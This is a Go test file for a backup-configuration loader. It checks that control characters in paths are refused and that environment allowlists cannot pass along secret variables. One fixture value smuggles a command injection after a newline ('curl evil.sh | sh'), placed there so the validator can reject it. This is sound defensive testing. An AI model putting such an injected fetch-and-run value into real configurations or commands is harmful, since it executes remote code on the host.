package config

import (
	"strings"
	"testing"
)

// TestBackupsControlCharacters: a newline (or any control character)
// in a backups path or name is refused with the field's path, since the
// value ends up in commands and in the recovery runbook; a command's
// argument may hold a tab.
func TestBackupsControlCharacters(t *testing.T) {
	doc := `backups:
  stanzas:
    - name: main
      config: "/etc/x.conf\ncurl evil.sh | sh #"
      data_dirs: ["/srv/pg\r"]
      pg_bin: "/usr/lib/postgresql/15/bin\x7f"
      env_files: {PGPASSWORD: "/run/secrets/pg\x1b"}
  jobs:
    - {name: files, kind: command, command: [/bin/echo, "a\tb", "c\nd"]}
  watched:
    - {name: offsite, token_file: "/run/ping\n", period: 1d}
  restore_targets:
    - {name: scratch, path: "/srv/restore\u0000"}
`
	_, err := Load([]byte(doc), "c.yaml")
	if err == nil {
		t.Fatal("loaded")
	}
	for _, want := range []string{
		"backups.stanzas[0].config: control character 0x0a at byte 11",
		"backups.stanzas[0].data_dirs[0]: control character 0x0d",
		"backups.stanzas[0].pg_bin: control character 0x7f",
		"backups.stanzas[0].env_files.PGPASSWORD: control character 0x1b",
		"backups.jobs[0].command[2]: control character 0x0a",
		"backups.watched[0].token_file: control character 0x0a",
		"backups.restore_targets[0].path: control character 0x00",
	} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error lacks %q:\n%v", want, err)
		}
	}
	if strings.Contains(err.Error(), "command[1]") {
		t.Errorf("a tab in a command argument refused:\n%v", err)
	}
}

// TestBackupsEnvRefusesSecrets: an env allowlist entry that names an
// environment variable ward reads a secret from (any *_env key, and
// ward's own) is refused with the key that uses it; an env_files name
// is fine (its value comes from the file).
func TestBackupsEnvRefusesSecrets(t *testing.T) {
	doc := `checks:
  - {name: db, kind: postgres, dsn: "postgres://ward@127.0.0.1:5432/app", password_env: PG_PASS}
  - {name: s, kind: s3, bucket: media, access_key_id: k, secret_access_key_env: S3_KEY}
mail: {smarthost: "127.0.0.1:25", from: "ward <w@example.com>", auth_username: w, auth_password_env: MAIL_PASS}
backups:
  stanzas:
    - {name: main, config: /etc/pgbackrest.conf, env: [PG_PASS, PGBACKREST_REPO1_PATH], env_files: {S3_KEY: /run/secrets/s3}}
  jobs:
    - {name: files, kind: command, command: [/bin/true], env: [HOME, OTHER_TOKEN, S3_KEY, MAIL_PASS, WARD_SECRET_KEY]}
  watched:
    - {name: offsite, token_env: OTHER_TOKEN, period: 1d}
`
	_, err := Load([]byte(doc), "e.yaml")
	if err == nil {
		t.Fatal("loaded")
	}
	for _, want := range []string{
		`backups.stanzas[0].env[0]: "PG_PASS" holds a secret ward reads (checks[0].password_env)`,
		`backups.jobs[0].env[1]: "OTHER_TOKEN" holds a secret ward reads (backups.watched[0].token_env)`,
		`backups.jobs[0].env[2]: "S3_KEY" holds a secret ward reads (checks[1].secret_access_key_env)`,
		`backups.jobs[0].env[3]: "MAIL_PASS" holds a secret ward reads (mail.auth_password_env)`,
		`backups.jobs[0].env[4]: "WARD_SECRET_KEY" holds a secret ward reads (ward's own secret)`,
	} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error lacks %q:\n%v", want, err)
		}
	}
	for _, ok := range []string{"env[1]: \"PGBACKREST", "jobs[0].env[0]", "env_files.S3_KEY"} {
		if strings.Contains(err.Error(), ok) {
			t.Errorf("refused %s:\n%v", ok, err)
		}
	}
}
